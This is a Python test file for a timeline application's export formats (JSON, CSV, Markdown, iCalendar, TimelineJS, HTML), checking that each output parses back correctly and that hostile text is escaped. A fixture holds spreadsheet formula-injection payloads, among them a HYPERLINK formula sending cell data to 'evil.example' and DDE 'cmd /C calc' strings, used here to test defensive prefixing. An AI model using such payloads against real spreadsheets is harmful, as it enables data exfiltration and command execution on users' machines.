"""Exports: each format read back by an independent parser and checked against the model."""

from __future__ import annotations

import csv
import io
import json
import re
from datetime import UTC, date, datetime
from html.parser import HTMLParser

import icalendar
import pytest
from interchange_support import (
    ARTICLE_ONE,
    ESCAPES,
    HOSTILE,
    hostile_dataset,
    make_event,
    make_source,
    quote_of,
    small_dataset,
)
from markdown_it import MarkdownIt

from timeline.dates import describe
from timeline.interchange.export import FORMATS, ExportError, export, timelinejs_document
from timeline.model import Dataset, Theme
from timeline.text import normalize, sanitize

NOW = datetime(2026, 1, 2, 3, 4, 5, tzinfo=UTC)


def _ordered_ids(dataset: Dataset) -> list[str]:
    return [e.id for e in sorted(dataset.events, key=lambda e: e.date.sort_key)]


def test_unknown_format_is_a_clear_error() -> None:
    with pytest.raises(ExportError, match="unknown export format 'pdf'; choose one of json"):
        export(small_dataset(), small_dataset().events, "pdf")


@pytest.mark.parametrize("fmt", FORMATS)
def test_every_format_exports_only_the_given_events(fmt: str) -> None:
    dataset = small_dataset()
    chosen = [dataset.event("summit-may")]
    out = export(dataset, chosen, fmt, now=NOW)
    assert "Summit in the north" in out
    assert "Treaty signed" not in out
    assert "Space talks" not in out


# -- JSON ----------------------------------------------------------------------------


def test_json_carries_the_whole_model_with_quote_spans() -> None:
    dataset = small_dataset()
    doc = json.loads(export(dataset, dataset.events, "json"))
    assert doc["format"] == "timeline-export"
    assert [e["id"] for e in doc["events"]] == _ordered_ids(dataset)
    assert [t["id"] for t in doc["themes"]] == ["alpha", "beta", "gamma"]
    texts = {s["id"]: s["text"] for s in doc["sources"]}
    assert texts == {s.id: s.text for s in dataset.sources}
    for exported in doc["events"]:
        event = dataset.event(exported["id"])
        assert exported["date"]["edtf"] == event.date.text
        assert exported["date"]["display"] == describe(event.date)
        assert exported["themes"] == list(event.themes)
        assert exported["status"] == str(event.status)
        assert len(exported["quotes"]) == len(event.quotes)
        for quote, original in zip(exported["quotes"], event.quotes, strict=True):
            span = quote["span"]
            # The span indexes the exported article text and holds the quote.
            passage = texts[quote["source"]][span["start"] : span["end"]]
            assert normalize(passage) == normalize(quote["text"]) == normalize(original.text)
            assert (span["line"], span["column"]) == (original.span.line, original.span.column)


def test_json_dates_give_bounds_at_their_precision() -> None:
    dataset = small_dataset()
    doc = json.loads(export(dataset, dataset.events, "json"))
    dates = {e["id"]: e["date"] for e in doc["events"]}
    assert (dates["summit-may"]["earliest"], dates["summit-may"]["latest"]) == (
        "2023-05-01",
        "2023-05-31",
    )
    assert dates["treaty-signed"]["approximate"] is True
    assert dates["treaty-signed"]["precision"] == "year"
    assert dates["space-talks"]["latest"] == "2022-11-04"


def test_json_keeps_only_cited_sources() -> None:
    dataset = small_dataset()
    doc = json.loads(export(dataset, [dataset.event("summit-may")], "json"))
    assert [s["id"] for s in doc["sources"]] == ["daily-report"]


# -- CSV -----------------------------------------------------------------------------


def test_csv_reads_back_with_the_csv_module() -> None:
    dataset = small_dataset()
    rows = list(csv.DictReader(io.StringIO(export(dataset, dataset.events, "csv"), newline="")))
    assert [r["id"] for r in rows] == _ordered_ids(dataset)
    for row in rows:
        event = dataset.event(row["id"])
        assert row["date"] == event.date.text
        assert row["title"] == event.title
        assert row["themes"].split("\n") == list(event.themes)
        assert row["sources"].split("\n") == list(event.source_ids)
        assert row["quotes"].split("\n") == [f"{q.source_id}: {q.text}" for q in event.quotes]
    may = next(r for r in rows if r["id"] == "summit-may")
    assert (may["earliest"], may["latest"], may["display_date"]) == (
        "2023-05-01",
        "2023-05-31",
        "May 2023",
    )


def test_csv_keeps_hostile_text_exactly() -> None:
    dataset = hostile_dataset()
    (row,) = csv.DictReader(io.StringIO(export(dataset, dataset.events, "csv"), newline=""))
    assert row["title"] == dataset.events[0].title
    assert row["summary"] == dataset.events[0].summary


def _formula_dataset() -> Dataset:
    """One event with a cell starting with each character a spreadsheet runs as a formula,
    dated in 44 BCE, so its EDTF date and first and last days start with `-` too."""
    source = make_source("daily-report", ARTICLE_ONE)
    event = make_event(
        "ides",
        "-0044-03-15",
        (quote_of(source, "Leaders met in the capital"),),
        title='=HYPERLINK("http://evil.example/?"&A1,"Click")',
        summary="+cmd|' /C calc'!A0",
        actors=("@SUM(1+1)*cmd|' /C calc'!A0",),
        places=("\t=1+1",),
        date_basis="\r=1+1",
    )
    return Dataset("/data/formulas", (Theme("alpha", "Alpha", "A."),), (source,), (event,))


def test_csv_prefixes_every_cell_a_spreadsheet_would_run_as_a_formula() -> None:
    dataset = _formula_dataset()
    event = dataset.events[0]
    (row,) = csv.DictReader(io.StringIO(export(dataset, dataset.events, "csv"), newline=""))
    hostile = {
        "title": event.title,
        "summary": event.summary,
        "actors": event.actors[0],
        "places": event.places[0],
        "date_basis": event.date_basis,
        "date": "-0044-03-15",  # a negative year starts with "-": escaped by the same rule
        "earliest": "-0044-03-15",
        "latest": "-0044-03-15",
    }
    assert {column: row[column] for column in hostile} == {c: f"'{v}" for c, v in hostile.items()}
    ordinary = {"id": "ides", "display_date": describe(event.date), "themes": "alpha"}
    assert {column: row[column] for column in ordinary} == ordinary
    assert row["quotes"] == "daily-report: Leaders met in the capital"

    (raw,) = csv.DictReader(
        io.StringIO(export(dataset, dataset.events, "csv", raw=True), newline="")
    )
    assert {column: raw[column] for column in hostile} == hostile


def test_csv_leaves_ordinary_cells_alone() -> None:
    # Dates such as 2023-01-13, 2023-05 and 2022~, and a value that already starts with '.
    dataset = small_dataset()
    safe = export(dataset, dataset.events, "csv")
    assert safe == export(dataset, dataset.events, "csv", raw=True)
    assert ",'on Friday' in the report" in safe


# -- Markdown ------------------------------------------------------------------------


def test_markdown_puts_every_quote_in_a_footnote() -> None:
    dataset = small_dataset()
    md = export(dataset, dataset.events, "markdown")
    quotes = [q for e in sorted(dataset.events, key=lambda e: e.date.sort_key) for q in e.quotes]
    definitions = re.findall(r"^\[\^(\d+)\]: “(.*)” — (.*)$", md, flags=re.MULTILINE)
    assert [int(n) for n, _, _ in definitions] == list(range(1, len(quotes) + 1))
    for (n, text, cite), quote in zip(definitions, quotes, strict=True):
        assert text == quote.text
        assert f"sources/{quote.source_id}.txt:{quote.span.line}:{quote.span.column}" in cite
        # Every footnote is referenced from the body, once.
        assert md.count(f"[^{n}]") == 2
    assert "## 2022" in md and "## 2023" in md
    assert "### 13 Jan 2023: Leaders meet" in md


def test_markdown_renders_hostile_text_as_text() -> None:
    dataset = hostile_dataset()
    md = export(dataset, dataset.events, "markdown")
    rendered = MarkdownIt("commonmark", {"html": True}).render(md)
    assert "<script" not in rendered
    assert "<img" not in rendered
    assert "<a " not in rendered
    assert "<ul>" not in rendered  # "- not a list" stays a sentence
    assert rendered.count("<h1>") == 1  # "# Not a heading" does not become one
    assert "\x1b" not in md and "\u202e" not in md
    assert "&lt;script&gt;" in rendered


# -- iCalendar -----------------------------------------------------------------------


def _calendar(dataset: Dataset) -> tuple[str, icalendar.Calendar]:
    text = export(dataset, dataset.events, "ics", now=NOW)
    return text, icalendar.Calendar.from_ical(text)


def test_ics_parses_back_with_all_day_ranges_at_each_precision() -> None:
    dataset = small_dataset()
    _, calendar = _calendar(dataset)
    vevents = {str(v["UID"]).removesuffix("@timeline"): v for v in calendar.walk("VEVENT")}
    assert set(vevents) == {e.id for e in dataset.events}

    def span(event_id: str) -> tuple[date, date]:
        v = vevents[event_id]
        return v.decoded("DTSTART"), v.decoded("DTEND")

    # DTEND is exclusive, and every value is a DATE (all-day), never a DATE-TIME.
    assert span("leaders-meet") == (date(2023, 1, 13), date(2023, 1, 14))
    assert span("summit-may") == (date(2023, 5, 1), date(2023, 6, 1))
    assert span("treaty-signed") == (date(2022, 1, 1), date(2023, 1, 1))
    assert span("space-talks") == (date(2022, 11, 2), date(2022, 11, 5))
    for v in vevents.values():
        assert type(v.decoded("DTSTART")) is date
        assert v.decoded("DTSTAMP") == NOW
    assert str(vevents["summit-may"]["STATUS"]) == "TENTATIVE"


def test_ics_description_has_quotes_and_sources() -> None:
    dataset = small_dataset()
    _, calendar = _calendar(dataset)
    for v in calendar.walk("VEVENT"):
        event = dataset.event(str(v["UID"]).removesuffix("@timeline"))
        description = str(v["DESCRIPTION"])
        assert str(v["SUMMARY"]) == event.title
        assert description.startswith(event.summary)
        for quote in event.quotes:
            source = dataset.source(quote.source_id)
            assert f"“{quote.text}” — {source.outlet}, “{source.title}”" in description
        categories = [str(c) for c in v["CATEGORIES"].cats]
        assert categories == [dataset.theme(t).label for t in event.themes]


def test_ics_lines_are_folded_crlf_and_at_most_75_octets() -> None:
    text, _ = _calendar(small_dataset())
    assert text.endswith("\r\n")
    lines = text.split("\r\n")[:-1]
    assert all("\n" not in line and "\r" not in line for line in lines)
    assert all(len(line.encode("utf-8")) <= 75 for line in lines)
    assert any(line.startswith(" ") for line in lines)  # the descriptions needed folding


def test_ics_escapes_hostile_text_and_keeps_it_readable() -> None:
    dataset = hostile_dataset()
    text, calendar = _calendar(dataset)
    (v,) = calendar.walk("VEVENT")
    assert HOSTILE in str(v["SUMMARY"])  # commas, semicolons and brackets survive escaping
    assert "\x1b" not in text and "\x07" not in text and "\u202e" not in text
    assert "␛[2J" in str(v["SUMMARY"])
    assert str(v["LOCATION"]) == sanitize(dataset.events[0].places[0])


def test_ics_refuses_years_it_cannot_write() -> None:
    dataset = small_dataset()
    ancient = make_event("ancient", "-0500", dataset.events[0].quotes)
    with pytest.raises(ExportError, match=r"'ancient'.*outside the years 1–9999"):
        export(dataset, [ancient], "ics", now=NOW)


# -- TimelineJS ----------------------------------------------------------------------


def test_timelinejs_slides_follow_the_date_precision() -> None:
    dataset = small_dataset()
    doc = json.loads(export(dataset, dataset.events, "timelinejs"))
    slides = {s["unique_id"]: s for s in doc["events"]}
    assert list(slides) == _ordered_ids(dataset)
    assert slides["leaders-meet"]["start_date"] == {"year": "2023", "month": "1", "day": "13"}
    assert "end_date" not in slides["leaders-meet"]
    assert slides["summit-may"]["start_date"] == {"year": "2023", "month": "5"}
    assert slides["treaty-signed"]["start_date"] == {"year": "2022"}
    assert slides["treaty-signed"]["display_date"] == "≈ 2022"
    assert slides["space-talks"]["end_date"] == {"year": "2022", "month": "11", "day": "4"}
    assert slides["space-talks"]["display_date"] == "2–4 Nov 2022"


def test_timelinejs_text_group_and_media() -> None:
    dataset = small_dataset()
    doc = timelinejs_document(dataset, dataset.events)
    slide = next(s for s in doc["events"] if s["unique_id"] == "leaders-meet")  # type: ignore[index]
    assert slide["text"] == {"headline": "Leaders meet", "text": "<p>Something happened.</p>"}
    assert slide["group"] == "Alpha &amp; co"  # TimelineJS shows group labels as HTML
    media = slide["media"]
    assert media["url"].startswith("<blockquote>Leaders met in the capital")
    assert media["credit"] == "The Daily; The Weekly"
    assert "the space agreement covers lunar exploration" in media["caption"]
    assert "<cite>The Weekly, “Space pact”, Feb 2023</cite>" in media["caption"]


def test_timelinejs_escapes_html_in_every_text_field() -> None:
    dataset = hostile_dataset()
    out = export(dataset, dataset.events, "timelinejs")
    doc = json.loads(out)
    (slide,) = doc["events"]
    for value in (
        slide["text"]["headline"],
        slide["text"]["text"],
        slide["media"]["caption"],
        slide["media"]["credit"],
        slide["media"]["url"],
    ):
        assert "<script" not in value and "<img" not in value
    assert "&lt;script&gt;" in slide["text"]["headline"]
    assert "<script" not in slide["group"]
    # The data formats keep control characters as they are (JSON-escaped in the file).
    assert ESCAPES in slide["text"]["headline"]
    assert "\x1b" not in out


# -- HTML (structure; the browser tests are in test_interchange_html.py) -------------


class _Article(HTMLParser):
    """Reads one article's text back out of the page, with the text each quote marks."""

    def __init__(self, source_dom_id: str) -> None:
        super().__init__(convert_charrefs=True)
        self.target = source_dom_id
        self.depth = 0  # >0 while inside the target article's text div
        self.mark: list[str] = []
        self.text: list[str] = []
        self.marked: dict[str, str] = {}

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        values = dict(attrs)
        if tag == "article" and values.get("id") == self.target:
            self.depth = 1
        elif self.depth and tag == "div" and values.get("class") == "text":
            self.depth = 2
        elif self.depth == 2 and tag == "mark":
            self.mark = (values.get("data-q") or "").split()

    def handle_endtag(self, tag: str) -> None:
        if self.depth == 2 and tag == "mark":
            self.mark = []
        elif self.depth and tag == "article":
            self.depth = 0

    def handle_data(self, data: str) -> None:
        if self.depth == 2:
            self.text.append(data)
            for qid in self.mark:
                self.marked[qid] = self.marked.get(qid, "") + data


def test_html_marks_overlapping_quotes_exactly() -> None:
    one = make_source("one", ARTICLE_ONE)
    first = quote_of(one, "Leaders met in the capital on Friday and agreed")
    second = quote_of(one, "on Friday and agreed to deepen cooperation.\n\nThey will")
    inner = quote_of(one, "the capital")
    dataset = Dataset(
        "/d",
        (Theme("alpha", "Alpha", "A."),),
        (one,),
        (
            make_event("a", "2023-01-01", (first, inner)),
            make_event("b", "2023-01-02", (second,)),
        ),
    )
    page = export(dataset, dataset.events, "html")
    reader = _Article("s-0")
    reader.feed(page)
    assert "".join(reader.text) == one.text
    assert reader.marked == {
        "q-0-0": first.text,
        "q-0-1": inner.text,
        "q-1-0": second.text,
    }
    # Each quote links to the anchor at its start, in the same file.
    for qid in reader.marked:
        assert f'href="#{qid}"' in page
        assert f'<span class="anchor" id="{qid}"></span>' in page
